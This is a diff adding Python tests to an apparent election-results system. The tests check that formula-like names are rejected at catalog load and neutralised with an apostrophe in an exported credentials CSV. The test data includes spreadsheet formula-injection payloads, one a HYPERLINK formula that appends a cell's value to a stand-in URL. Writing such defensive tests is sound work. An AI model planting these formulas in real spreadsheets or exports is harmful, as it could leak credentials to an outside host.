@@ -344,3 +344,42 @@ def test_an_operator_file_may_hold_a_whole_state() -> None:
     rows = parse_operator_file(b"nombre,rol,sitio\n" + b"".join(
         b"Persona %d,capturista,%d\n" % (i, i % 40 + 1) for i in range(MAX_FILE_ROWS)))
     assert len(rows) == MAX_FILE_ROWS and rows[-1].line == MAX_FILE_ROWS + 1
+
+
+def test_a_catalog_name_that_would_start_a_formula_is_refused_at_load(
+        shared_central: CentralNode, tmp_path: Path) -> None:
+    """Issue 36: the central's catalog load uses the very validator of «prep catalog
+    check», so no published CSV can carry a formula from the catalog."""
+    write_catalog(generate_catalog(7, 0.01), tmp_path / "cat")
+    candidaturas = tmp_path / "cat" / "candidaturas.csv"
+    rows = candidaturas.read_text(encoding="utf-8").splitlines()
+    cells = rows[3].split(",")
+    cells[3] = '"=HYPERLINK(""https://example.invalid"",""Ver"")"'
+    rows[3] = ",".join(cells)
+    candidaturas.write_text("\n".join(rows) + "\n", encoding="utf-8")
+
+    done = central_cli(shared_central, "catalog", "load", str(tmp_path / "cat"))
+
+    assert done.returncode == 2, done.stderr
+    assert "candidaturas.csv: línea 4: el campo PROPIETARIA" in done.stderr, done.stderr
+    assert "empieza con «=»" in done.stderr
+
+
+def test_the_envelopes_file_shows_formula_like_names_and_never_runs_them(
+        shared_central: CentralNode, tmp_path: Path) -> None:
+    """Issue 36: an operator named like a formula in operadores.csv is created with that
+    name, and the credentials file a spreadsheet opens to print envelopes carries it
+    behind an apostrophe."""
+    names = ['=HYPERLINK("https://example.invalid/?p="&E2,"Sobre")', "+Formula Mas",
+             "-Formula Menos", "@Formula Arroba", "Nombre Normal"]
+    rows = "nombre,rol,sitio\n" + "".join(
+        f'"{n.replace(chr(34), chr(34) * 2)}",capturista,33\n' for n in names)
+
+    done, out = _import_cli(shared_central, rows, tmp_path)
+
+    assert done.returncode == 0, done.stderr
+    assert [o["name"] for o in json.loads(done.stdout)] == names
+    with out.open(encoding="utf-8-sig", newline="") as f:
+        envelopes = list(csv.DictReader(f))
+    assert [e["nombre"] for e in envelopes] == [f"'{n}" for n in names[:4]] + [names[4]]
+    assert all(not e[k].startswith(("=", "+", "-", "@")) for e in envelopes for k in e)
